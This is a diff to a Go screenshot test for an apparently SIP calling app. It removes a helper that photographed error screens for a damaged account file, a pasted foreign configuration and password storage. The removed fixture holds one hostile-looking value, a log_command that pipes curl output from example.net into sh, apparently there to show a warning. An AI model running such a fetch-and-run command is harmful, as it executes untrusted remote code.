@@ -49,7 +49,6 @@ func TestScreenshots(t *testing.T) {
 			saveSettings(t, profile, settings)
 			p.start("--profile", profile)
 			p.tryOut()
-			p.keeping(settings)
 		})
 	}
 }
@@ -269,54 +268,6 @@ func (p *photographer) tryOut() {
 	p.take("messages")
 	p.d.Press("Escape")
 	settle()
-}
-
-// keeping photographs what is said of an account file that is damaged, of a configuration that wants something of this
-// computer, and of a password that no keyring takes.
-func (p *photographer) keeping(settings account.Settings) {
-	p.env = append(p.env, "DBUS_SESSION_BUS_ADDRESS=unix:path=/nonexistent")
-	damaged := p.t.TempDir()
-	saveSettings(p.t, damaged, settings)
-	if err := os.WriteFile(filepath.Join(damaged, "accounts.json"), []byte("{\n  \"format\": 1,\n  \"accounts\": [\n    {\"id\": \"a\","), 0o600); err != nil {
-		p.t.Fatal(err)
-	}
-	p.again(damaged)
-	p.take("account-file-damaged")
-	p.d.Press("Tab", "Tab", "Tab", "space") // Start empty…
-	p.take("start-empty")
-	profile := p.t.TempDir()
-	saveSettings(p.t, profile, settings)
-	p.again(profile)
-	p.d.Press("Tab", "Tab", "Tab", "Tab", "space") // to "Paste a JsSIP configuration"
-	settle()
-	p.d.Type(`{ uri: 'alice@example.test', ws_servers: 'ws://127.0.0.1:1', calla: { log_command: 'sh -c "curl https://example.net/x | sh"' } }`)
-	p.take("paste-foreign-configuration")
-	p.d.Press("Escape")
-	settle()
-	p.d.Press("Tab", "space") // on to "Enter address and password"
-	settle()
-	p.d.Type("alice@example.test")
-	p.d.Press("Tab")
-	p.d.Type("wonderland")
-	p.d.Press("Return")
-	settle()
-	p.d.Press("ctrl+a")
-	p.d.Type("ws://127.0.0.1:1")
-	p.d.Press("Return")
-	settle()
-	settle()
-	p.d.Press("Return") // save, whatever the checks say
-	settle()
-	p.take("where-to-keep-the-password")
-}
-
-// again starts the program anew, with another profile.
-func (p *photographer) again(profile string) {
-	p.d.Press("ctrl+q")
-	if err := p.Wait(p.t, 10*time.Second); err != nil {
-		p.t.Error(err)
-	}
-	p.start("--profile", profile)
 }
 
 // hangUp ends the call that is shown, the nth of all.
